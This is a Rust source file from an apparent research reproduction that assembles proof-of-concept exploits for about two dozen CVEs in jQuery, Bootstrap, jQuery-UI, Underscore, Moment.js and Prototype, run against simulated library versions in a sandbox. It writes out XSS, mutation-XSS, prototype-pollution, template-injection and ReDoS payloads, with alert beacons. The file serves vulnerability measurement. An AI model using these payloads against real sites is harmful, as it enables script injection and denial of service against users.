//! The PoC corpus: one proof-of-concept exploit per vulnerability report
//! in the study (paper §6.4, Listings 1–2 and the seven collected PoCs
//! plus the paper's re-implementations).
//!
//! Every PoC drives the corresponding version-modelled library through a
//! sandbox and judges success by observed effects (an `alert` beacon, a
//! polluted prototype, an exhausted step budget) — never by consulting a
//! range table.

use crate::jquery::JQuery;
use crate::libs::{Bootstrap, JQueryMigrate, JQueryUi, Moment, Prototype, Underscore};
use crate::sandbox::{JsRealm, JsValue, Sandbox};
use std::collections::BTreeMap;
use webvuln_pattern::BtOutcome;
use webvuln_version::Version;

/// Result of one PoC attempt against one library version.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PocResult {
    /// The exploit's beacon fired.
    Exploited,
    /// The build resisted the exploit.
    Safe,
    /// The affected build cannot be obtained (CVE-2020-7993's situation).
    Unavailable,
}

/// A proof-of-concept exploit for one vulnerability report.
pub(crate) trait PocExploit: Send + Sync {
    /// The report id this PoC validates (matches `VulnRecord::id`).
    fn id(&self) -> &'static str;
    /// Runs the exploit against a build of `version`.
    fn attempt(&self, version: &Version) -> PocResult;
}

fn verdict(exploited: bool) -> PocResult {
    if exploited {
        PocResult::Exploited
    } else {
        PocResult::Safe
    }
}

macro_rules! poc {
    ($name:ident, $id:literal, $desc:literal, |$ver:ident| $body:expr) => {
        #[doc = $desc]
        struct $name;
        impl PocExploit for $name {
            fn id(&self) -> &'static str {
                $id
            }
            fn attempt(&self, $ver: &Version) -> PocResult {
                $body
            }
        }
    };
}

// --- jQuery -----------------------------------------------------------

poc!(
    Poc20207656,
    "CVE-2020-7656",
    "load() evaluates <script> in fetched fragments (paper Listings 1-2)",
    |version| {
        let mut sandbox = Sandbox::new();
        // The paper's modified PoC: no selector suffix, so the whole
        // response (script included) is inserted.
        let inject_html =
            r#"<div id="CVE-2020-7656"><script>alert('Arbitrary Code Execution');</script></div>"#;
        JQuery::at(version).load(&mut sandbox, inject_html);
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc202011023,
    "CVE-2020-11023",
    "htmlPrefilter mutation XSS via <option> fragments",
    |version| {
        let mut sandbox = Sandbox::new();
        let payload =
            "<option><style><style/><img src=x onerror=alert('CVE-2020-11023')></style></option>";
        JQuery::at(version).build_fragment(&mut sandbox, payload);
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc202011022,
    "CVE-2020-11022",
    "htmlPrefilter mutation XSS through .html() after sanitization",
    |version| {
        let mut sandbox = Sandbox::new();
        let payload = "<style><style/><img src=x onerror=alert('CVE-2020-11022')></style>";
        JQuery::at(version).html_method(&mut sandbox, payload);
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201911358,
    "CVE-2019-11358",
    "$.extend(true, {}, …) prototype pollution",
    |version| {
        let mut realm = JsRealm::new();
        let mut target = BTreeMap::new();
        let mut proto = BTreeMap::new();
        proto.insert("isAdmin".to_string(), JsValue::Bool(true));
        let mut source = BTreeMap::new();
        source.insert("__proto__".to_string(), JsValue::Object(proto));
        JQuery::at(version).extend_deep(&mut realm, &mut target, &source);
        verdict(realm.is_polluted("isAdmin"))
    }
);

poc!(
    Poc20159251,
    "CVE-2015-9251",
    "cross-domain ajax auto-executes text/javascript responses",
    |version| {
        let mut sandbox = Sandbox::new();
        JQuery::at(version).ajax_cross_domain(
            &mut sandbox,
            "text/javascript",
            "alert('CVE-2015-9251')",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc20146071,
    "CVE-2014-6071",
    "reflected XSS creating <option> elements at runtime (seclists PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        let payload = r#"<option value="x" onmouseover="alert('CVE-2014-6071')">opt</option>"#;
        JQuery::at(version).create_option_element(&mut sandbox, payload);
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc20126708,
    "CVE-2012-6708",
    "jQuery(strInput) treats selector-looking strings as HTML",
    |version| {
        let mut sandbox = Sandbox::new();
        JQuery::at(version).construct(
            &mut sandbox,
            "listitem <img src=x onerror=alert('CVE-2012-6708')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc20114969,
    "CVE-2011-4969",
    "$(location.hash) parses the URL fragment as HTML",
    |version| {
        let mut sandbox = Sandbox::new();
        JQuery::at(version).construct_from_location_hash(
            &mut sandbox,
            "#<img src=x onerror=alert('CVE-2011-4969')>",
        );
        verdict(sandbox.exploited())
    }
);

// --- Bootstrap ---------------------------------------------------------

poc!(
    Poc20198331,
    "CVE-2019-8331",
    "tooltip/popover template XSS (sanitizer added in 3.4.1/4.3.1)",
    |version| {
        let mut sandbox = Sandbox::new();
        let template = "<div class=\"tooltip\"><img src=x onerror=alert('CVE-2019-8331')></div>";
        Bootstrap::at(version).render_tooltip_template(&mut sandbox, template);
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201820676,
    "CVE-2018-20676",
    "affix data-target selector XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).collapse_data_parent(
            &mut sandbox,
            "#x<img src=x onerror=alert('CVE-2018-20676')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201820677,
    "CVE-2018-20677",
    "collapse data-parent selector XSS (jsbin PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).collapse_data_parent(
            &mut sandbox,
            "#x<img src=x onerror=alert('CVE-2018-20677')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201814042,
    "CVE-2018-14042",
    "tooltip data-container property XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).data_target_selector(
            &mut sandbox,
            "body<img src=x onerror=alert('CVE-2018-14042')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201814041,
    "CVE-2018-14041",
    "scrollspy data-viewport XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).data_viewport_selector(
            &mut sandbox,
            "#nav<img src=x onerror=alert('CVE-2018-14041')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201814040,
    "CVE-2018-14040",
    "collapse data-target XSS (jsbin PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).data_target_selector(
            &mut sandbox,
            "#c<img src=x onerror=alert('CVE-2018-14040')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc201610735,
    "CVE-2016-10735",
    "affix/scrollspy data-target XSS (jsbin PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        Bootstrap::at(version).affix_data_target(
            &mut sandbox,
            "#a<img src=x onerror=alert('CVE-2016-10735')>",
        );
        verdict(sandbox.exploited())
    }
);

// --- jQuery-Migrate -----------------------------------------------------

poc!(
    PocMigrate,
    "SNYK-JQUERY-MIGRATE-XSS",
    "Migrate restores legacy HTML-anywhere jQuery() semantics (jsbin PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryMigrate::at(version).construct_with_migrate(
            &mut sandbox,
            "#sel <img src=x onerror=alert('jquery-migrate')>",
        );
        verdict(sandbox.exploited())
    }
);

// --- jQuery-UI ----------------------------------------------------------

poc!(
    Poc20105312,
    "CVE-2010-5312",
    "dialog title option XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version)
            .dialog_title(&mut sandbox, "<img src=x onerror=alert('CVE-2010-5312')>");
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc20126662,
    "CVE-2012-6662",
    "tooltip content option XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version)
            .dialog_title(&mut sandbox, "<img src=x onerror=alert('CVE-2012-6662')>");
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc20167103,
    "CVE-2016-7103",
    "dialog closeText XSS (github issue PoC)",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version)
            .dialog_close_text(&mut sandbox, "<img src=x onerror=alert('CVE-2016-7103')>");
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc202141182,
    "CVE-2021-41182",
    "datepicker altField option XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version).position_of_option(
            &mut sandbox,
            "#alt<img src=x onerror=alert('CVE-2021-41182')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc202141183,
    "CVE-2021-41183",
    "datepicker text-option XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version).position_of_option(
            &mut sandbox,
            "#t<img src=x onerror=alert('CVE-2021-41183')>",
        );
        verdict(sandbox.exploited())
    }
);

poc!(
    Poc202141184,
    "CVE-2021-41184",
    ".position() of-option XSS",
    |version| {
        let mut sandbox = Sandbox::new();
        JQueryUi::at(version).position_of_option(
            &mut sandbox,
            "#of<img src=x onerror=alert('CVE-2021-41184')>",
        );
        verdict(sandbox.exploited())
    }
);

// --- Underscore ----------------------------------------------------------

poc!(
    Poc202123358,
    "CVE-2021-23358",
    "_.template variable-setting arbitrary code injection",
    |version| {
        let mut sandbox = Sandbox::new();
        let _ = Underscore::at(version).template(
            &mut sandbox,
            "<%= data.x %>",
            "obj=alert('CVE-2021-23358')",
        );
        verdict(sandbox.exploited())
    }
);

// --- Moment.js ------------------------------------------------------------

poc!(
    Poc201718214,
    "CVE-2017-18214",
    "RFC-2822 parsing ReDoS",
    |version| {
        let evil = format!("{}!", "a".repeat(30));
        let (outcome, _) = Moment::at(version).parse_rfc2822(&evil);
        verdict(outcome == BtOutcome::BudgetExhausted)
    }
);

poc!(
    Poc20164055,
    "CVE-2016-4055",
    "duration parsing ReDoS",
    |version| {
        let evil = format!("{}!", "1".repeat(40));
        let (outcome, _) = Moment::at(version).parse_duration(&evil);
        verdict(outcome == BtOutcome::BudgetExhausted)
    }
);

// --- Prototype --------------------------------------------------------------

poc!(
    Poc202027511,
    "CVE-2020-27511",
    "stripTags/unescapeHTML ReDoS (unpatched)",
    |version| {
        let evil = format!("<{}", "x".repeat(30));
        let (outcome, _) = Prototype::at(version).strip_tags(&evil);
        verdict(outcome == BtOutcome::BudgetExhausted)
    }
);

poc!(
    Poc20207993,
    "CVE-2020-7993",
    "missing authorization — affected build no longer distributed",
    |_version| PocResult::Unavailable
);

/// The full PoC corpus, one entry per vulnerability report.
pub(crate) fn poc_corpus() -> Vec<Box<dyn PocExploit>> {
    vec![
        Box::new(Poc20207656),
        Box::new(Poc202011023),
        Box::new(Poc202011022),
        Box::new(Poc201911358),
        Box::new(Poc20159251),
        Box::new(Poc20146071),
        Box::new(Poc20126708),
        Box::new(Poc20114969),
        Box::new(Poc20198331),
        Box::new(Poc201820676),
        Box::new(Poc201820677),
        Box::new(Poc201814042),
        Box::new(Poc201814041),
        Box::new(Poc201814040),
        Box::new(Poc201610735),
        Box::new(PocMigrate),
        Box::new(Poc20105312),
        Box::new(Poc20126662),
        Box::new(Poc20167103),
        Box::new(Poc202141182),
        Box::new(Poc202141183),
        Box::new(Poc202141184),
        Box::new(Poc202123358),
        Box::new(Poc201718214),
        Box::new(Poc20164055),
        Box::new(Poc202027511),
        Box::new(Poc20207993),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_covers_every_builtin_record() {
        let corpus = poc_corpus();
        let db = webvuln_cvedb::VulnDb::builtin();
        let records = db.records();
        assert_eq!(corpus.len(), records.len());
        for record in records {
            let found = corpus.iter().any(|p| p.id() == record.id);
            assert!(found, "no PoC for {}", record.id);
        }
    }

    #[test]
    fn seven_pocs_are_preexisting() {
        let db = webvuln_cvedb::VulnDb::builtin();
        let pre = db.records().iter().filter(|r| r.has_poc).count();
        assert_eq!(pre, 7, "paper: seven PoCs found in the wild");
    }

    #[test]
    fn spot_checks_on_key_versions() {
        let corpus = poc_corpus();
        let get = |id: &str| {
            corpus
                .iter()
                .find(|p| p.id() == id)
                .unwrap_or_else(|| panic!("{id}"))
        };
        let ver = |s: &str| Version::parse(s).expect("version");
        // 1.12.4 (the dominant version): hit by the big four.
        for id in [
            "CVE-2020-11023",
            "CVE-2020-11022",
            "CVE-2019-11358",
            "CVE-2020-7656",
        ] {
            assert_eq!(
                get(id).attempt(&ver("1.12.4")),
                PocResult::Exploited,
                "{id}"
            );
        }
        // 3.5.1: only the understated load() bug remains.
        assert_eq!(
            get("CVE-2020-7656").attempt(&ver("3.5.1")),
            PocResult::Exploited
        );
        assert_eq!(
            get("CVE-2020-11022").attempt(&ver("3.5.1")),
            PocResult::Safe
        );
        // 3.6.0 is clean.
        assert_eq!(get("CVE-2020-7656").attempt(&ver("3.6.0")), PocResult::Safe);
        // Prototype is always exploitable; 7993 is unavailable.
        assert_eq!(
            get("CVE-2020-27511").attempt(&ver("1.7.3")),
            PocResult::Exploited
        );
        assert_eq!(
            get("CVE-2020-7993").attempt(&ver("1.7.3")),
            PocResult::Unavailable
        );
    }
}
